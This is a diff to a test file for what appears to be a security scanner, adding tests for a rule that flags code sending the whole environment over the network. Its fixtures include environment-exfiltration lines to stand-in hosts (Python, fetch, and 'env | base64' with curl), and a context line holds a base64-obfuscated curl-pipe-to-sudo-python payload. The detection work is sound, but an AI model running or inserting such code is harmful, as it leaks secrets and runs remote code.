@@ -286,6 +286,25 @@ describe('generic rules in every language', () => {
   }
 });
 
+describe('suspicious-network-endpoint: the whole environment sent, whatever the host', () => {
+  const sent = (path: string, added: string[]) => scan([makeFile(path, { patch: hunk(added) })]).filter((f) => f.id === 'suspicious-network-endpoint').map((f) => [f.severity, f.title, f.line]);
+
+  it('reports program code that takes the whole environment and sends data out, on the same line or a few lines on', () => {
+    expect(sent('src/sitecustomize.py', ['import os, urllib.request', "urllib.request.urlopen('https://collector.example.net/c', data=repr(dict(os.environ)).encode())"])).toEqual([['high', 'The whole environment is sent over the network', 12]]);
+    expect(sent('src/telemetry.ts', ['const payload = JSON.stringify(process.env);', 'const started = Date.now();', "await fetch('https://metrics.example.org/v1', { method: 'POST', body: payload });"])).toEqual([['high', 'The whole environment is sent over the network', 11]]);
+    expect(sent('scripts/report.sh', ['env | base64 -w0 > /tmp/e', 'curl -s -X POST --data @/tmp/e https://status.example.dev/r'])).toEqual([['high', 'The whole environment is sent over the network', 11]]);
+    // A host that spells a public IP is a raw IP.
+    expect(sent('src/client.py', ["requests.get('https://api.45-139-104-115.plesk.page/v1')"])).toEqual([['medium', 'Network call to a raw IP address', 11]]);
+  });
+
+  it('is quiet on the environment handed to a child process, one variable sent, or a send far from the environment', () => {
+    expect(sent('src/runner.py', ['proc = subprocess.run(cmd, env={**os.environ, "CI": "1"}, check=True)', "requests.post(RESULTS_URL, json={'code': proc.returncode})"])).toEqual([]);
+    expect(sent('src/spawn.ts', ['const child = spawn(cmd, args, { env: { ...process.env, FORCE_COLOR: "1" } });', "await fetch(url, { method: 'POST', body: JSON.stringify({ ok: true }) });"])).toEqual([]);
+    expect(sent('src/api.py', ["token = os.environ['API_TOKEN']", "requests.post(API_URL, headers={'Authorization': f'Bearer {token}'}, json=body)"])).toEqual([]);
+    expect(sent('src/config.py', ['settings = dict(os.environ)', 'a = 1', 'b = 2', 'c = 3', 'd = 4', 'e = 5', "requests.post(URL, json={'a': a})"])).toEqual([]);
+  });
+});
+
 describe('generated-code-edited', () => {
   const payload = "  execSync(Buffer.from('Y3VybCAtc1NmTCBodHRwczovL2V4YW1wbGUuaW52YWxpZC9tLnB5IHwgc3VkbyBweXRob24z', 'base64').toString('utf-8'));";
   const bundle = (path = 'dist/index.js') => makeFile(path, { patch: hunk([payload]) });
